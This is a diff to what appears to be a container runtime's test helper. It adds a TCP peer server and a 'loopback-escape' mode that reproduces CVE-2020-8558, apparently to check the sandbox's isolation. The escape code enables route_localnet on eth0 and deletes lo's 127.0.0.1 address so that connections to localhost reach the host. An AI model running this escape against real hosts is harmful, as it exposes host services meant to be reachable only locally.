@@ -50,7 +50,7 @@ int usage() {
                  "       make-cgroup-and-hang PREFIX | move-to-leaf | make-group-here [move]\n"
                  "       ns KIND | hostname | netdevs | clocks | mount-proc-and-list | reap-check | trap-term | ctty | terminal [wait-winch]\n"
                  "       addresses | tcp-echo PORT | tcp-send ADDRESS PORT TEXT | tcp-send-gateway PORT TEXT\n"
-                 "       tcp-ask ADDRESS PORT TEXT\n"
+                 "       tcp-ask ADDRESS PORT TEXT | tcp-peer PORT COUNT | loopback-escape PORT\n"
                  "       udp-echo PORT | create-veth\n");
     return 2;
 }
@@ -249,6 +249,82 @@ int main(int argc, char** argv) {
             if (n <= 0) break;
             if (write(connection, buffer, static_cast<std::size_t>(n)) != n) break;
         }
+        return 0;
+    }
+    if (mode == "tcp-peer" && argc >= 4) {
+        // Serves COUNT connections on PORT, one after the other: reads a line
+        // and answers it with "saw ADDRESS" (the client's address as this side sees it) and
+        // prints the same, as a server's log would. Says "listening" first.
+        const int server = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        const int on = 1;
+        setsockopt(server, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
+        sockaddr_in address{};
+        address.sin_family = AF_INET;
+        address.sin_port = htons(static_cast<std::uint16_t>(std::atoi(argv[2])));
+        if (bind(server, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0 || listen(server, 8) != 0) {
+            std::perror("bind/listen");
+            return 1;
+        }
+        std::printf("listening\n");
+        std::fflush(stdout);
+        for (int served = 0; served < std::atoi(argv[3]); ++served) {
+            sockaddr_in peer{};
+            socklen_t length = sizeof peer;
+            const int connection = accept(server, reinterpret_cast<sockaddr*>(&peer), &length);
+            if (connection < 0) return 1;
+            // The client's line first: closing with unread bytes would reset
+            // the connection, and the answer could be lost with it.
+            for (char c = 0; c != '\n' && read(connection, &c, 1) == 1;) {
+            }
+            const std::string line = std::string("saw ") + inet_ntoa(peer.sin_addr) + "\n";
+            std::printf("%s", line.c_str());
+            std::fflush(stdout);
+            if (write(connection, line.data(), line.size()) < 0) return 1;
+            close(connection);
+        }
+        return 0;
+    }
+    if (mode == "loopback-escape" && argc >= 3) {
+        // What a sandbox's root can do to reach the host's loopback through
+        // its veth (CVE-2020-8558): route_localnet on eth0 lets 127.0.0.1
+        // leave by it, and with lo's address gone the default route takes
+        // it, to the host end. Prints the host's answer, or why none came.
+        {
+            std::ofstream localnet("/proc/sys/net/ipv4/conf/eth0/route_localnet");
+            localnet << "1\n";
+            if (!localnet.flush()) std::printf("route_localnet: %s\n", std::strerror(errno));
+        }
+        // Without its address, lo's local routes go, and 127.0.0.1 takes the default route.
+        try {
+            namespace d = ctr::net::detail;
+            auto netlink = d::rtnetlink::open();
+            d::netlink_message m(RTM_DELADDR, 0);
+            ifaddrmsg h{};
+            h.ifa_family = AF_INET;
+            h.ifa_prefixlen = 8;
+            h.ifa_index = static_cast<unsigned>(d::interface_index("lo"));
+            m.add_header(h);
+            const in_addr loopback{htonl(INADDR_LOOPBACK)};
+            m.add_attribute(IFA_LOCAL, &loopback, sizeof loopback);
+            if (const long r = netlink.request(m); r < 0)
+                std::printf("deleting 127.0.0.1: %s\n", std::strerror(static_cast<int>(-r)));
+        } catch (const std::exception& e) {
+            std::printf("deleting 127.0.0.1: %s\n", e.what());
+        }
+        sockaddr_in address{};
+        address.sin_family = AF_INET;
+        address.sin_port = htons(static_cast<std::uint16_t>(std::atoi(argv[2])));
+        address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+        const int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+        const timeval limit{3, 0};  // a dropped SYN is retried for minutes otherwise
+        setsockopt(s, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof limit);
+        setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof limit);
+        if (connect(s, reinterpret_cast<sockaddr*>(&address), sizeof address) != 0) {
+            std::printf("connect: %s\n", std::strerror(errno));
+            return 1;
+        }
+        if (write(s, "hi\n", 3) != 3) return 1;
+        print_until_closed(s);
         return 0;
     }
     if ((mode == "tcp-send" && argc >= 5) || (mode == "tcp-send-gateway" && argc >= 4)) {
